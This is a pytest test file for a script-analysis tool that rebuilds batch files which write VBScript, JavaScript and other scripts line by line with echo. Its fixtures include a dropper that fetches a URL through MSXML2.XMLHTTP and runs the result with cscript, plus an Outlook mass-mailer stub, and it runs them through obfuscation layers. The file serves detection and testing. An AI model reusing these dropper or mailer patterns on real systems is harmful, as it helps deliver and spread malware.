"""Batch peelers: scripts written line by line with echo, recovered in their own language."""

from __future__ import annotations

import time

import pytest

from tests.unit.scripts.test_peelers_cmd import carets, set_concat
from tests.unit.scripts.test_peelers_languages import (
    URL,
    Obfuscator,
    assert_recovers,
    peel_all,
    run,
    stack,
)
from wingman.core.scripts.peelers.cmd_echo import MAX_FILES
from wingman.core.scripts.rules.catalog import RULES
from wingman.core.scripts.rules.engine import match_rules
from wingman.core.scripts.types import Lang

VBS_DROPPER = (
    "@echo off\n"
    'echo Set h = CreateObject("MSXML2.XMLHTTP") > %temp%\\d.vbs\n'
    f'echo h.Open "GET", "{URL}", False >> %temp%\\d.vbs\n'
    "echo h.Send >> %temp%\\d.vbs\n"
    "cscript //nologo %temp%\\d.vbs\n"
)


def files(text: str) -> list[tuple[str, Lang | None]]:
    return [(found.content, found.language) for found in run("cmd_echo_file", text)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("echo a = 1 > x.vbs\necho b = 2 >> x.vbs", "a = 1\nb = 2\n"),
        ("echo one > x.vbs\necho two > x.vbs", "two\n"),
        (">>x.vbs echo first\n>>x.vbs echo second", "first\nsecond\n"),
        ("echo a 1>>x.vbs", "a\n"),
        ("echo.>x.vbs\necho(>>x.vbs\necho c>>x.vbs", "\n\nc\n"),
        ('echo s.Run ^"calc^" ^& x ^> y >> x.vbs', 's.Run "calc" & x > y\n'),
        ("echo v = 100%%>x.vbs", "v = 100%\n"),
        ('echo q >> "C:\\Users\\Public\\my file.vbs"', "q\n"),
        ("(\n  echo a\n  echo b\n) > x.vbs", "a\nb\n"),
        ("(echo a & echo b) > x.vbs", "a\nb\n"),
        ("if not exist x.vbs (\n  echo a\n  if 1==1 (\n    echo b\n  )\n) > x.vbs", "a\nb\n"),
    ],
)
def test_echo_lines_make_the_file(text: str, expected: str) -> None:
    assert files(text) == [(expected, Lang.VBSCRIPT)]


@pytest.mark.parametrize(
    ("name", "language"),
    [
        ("x.vbs", Lang.VBSCRIPT),
        ("x.VBE", Lang.VBSCRIPT),
        ("x.js", Lang.JAVASCRIPT),
        ("x.bat", Lang.BATCH),
        ("x.cmd", Lang.BATCH),
        ("x.ps1", Lang.POWERSHELL),
        ("x.sh", Lang.BASH),
        ("x.py", Lang.PYTHON),
    ],
)
def test_the_file_name_gives_the_language(name: str, language: Lang) -> None:
    assert files(f"echo body one > {name}\necho body two >> {name}") == [
        ("body one\nbody two\n", language)
    ]


@pytest.mark.parametrize(
    "text",
    [
        # logs, values and data files are read in place by the rules
        "echo started >> log.txt\necho done >> log.txt",
        "echo %x% > result.tmp",
        "echo open ftp.example.net> f.txt\necho get a.exe>> f.txt",
        # echoes to the console, stderr redirects, escaped redirects
        "echo hello\necho world",
        "echo fail 2>nul",
        "echo a ^> b.vbs",
        "if 1==1 (\n echo one\n) else (\n echo two\n)",
    ],
)
def test_what_is_not_a_script_file(text: str) -> None:
    assert files(text) == []


def test_only_so_many_files_are_followed() -> None:
    text = "".join(f"echo line > f{index}.vbs\n" for index in range(MAX_FILES + 10))
    assert len(files(text)) == MAX_FILES


def test_the_file_points_at_its_echo_lines() -> None:
    (found,) = run("cmd_echo_file", VBS_DROPPER)
    assert VBS_DROPPER[found.start : found.end].startswith("echo Set h")
    assert VBS_DROPPER[found.start : found.end].endswith(">> %temp%\\d.vbs")


ECHO_OBFUSCATORS: dict[str, Obfuscator] = {"caret": carets, "set_concat": set_concat}


@pytest.mark.parametrize("outer", [(), ("caret",), ("set_concat",), ("caret", "set_concat")])
def test_dropped_script_is_recovered_under_obfuscation(outer: tuple[str, ...]) -> None:
    text, expected = stack(VBS_DROPPER, [ECHO_OBFUSCATORS[name] for name in outer])
    # Carets leave quoted text alone, so the URL may stay in sight.
    assert_recovers(text, Lang.BATCH, [*expected, "cmd_echo_file"], hidden=URL not in text)
    layers, _ = peel_all(text, Lang.BATCH)
    assert any(
        layer.technique == "cmd_echo_file"
        and layer.language is Lang.VBSCRIPT
        and URL in layer.content
        for layer in layers
    )


def test_dropped_mass_mailer_is_judged_as_vbscript() -> None:
    text = (
        'echo Set o = CreateObject("Outlook.Application") > m.vbs\n'
        'echo Set l = o.GetNameSpace("MAPI").AddressLists(1) >> m.vbs\n'
        "echo Set e = o.CreateItem(0) >> m.vbs\n"
        'echo e.Attachments.Add "c:\\w.bat" >> m.vbs\n'
        "start m.vbs\n"
    )
    layers, _ = peel_all(text, Lang.BATCH)
    assert "SPR-003" in {hit.rule.id for hit in match_rules(RULES, layers)}


@pytest.mark.parametrize(
    "text",
    [
        "echo x > y.vbs\n" * 50_000,
        "(\n" * 50_000 + "echo a\n" + ")\n" * 50_000,
        "echo " + ">" * 200_000 + " x.vbs",
        "echo a" + " > b" * 50_000 + ".vbs",
        ") > x.vbs\n" * 50_000,
    ],
    ids=["many-echoes", "deep-blocks", "redirect-run", "many-redirects", "many-closings"],
)
def test_hostile_echo_text_completes(text: str) -> None:
    started = time.monotonic()
    layers, _ = peel_all(text, Lang.BATCH)
    assert layers[0].content == text
    assert time.monotonic() - started < 10
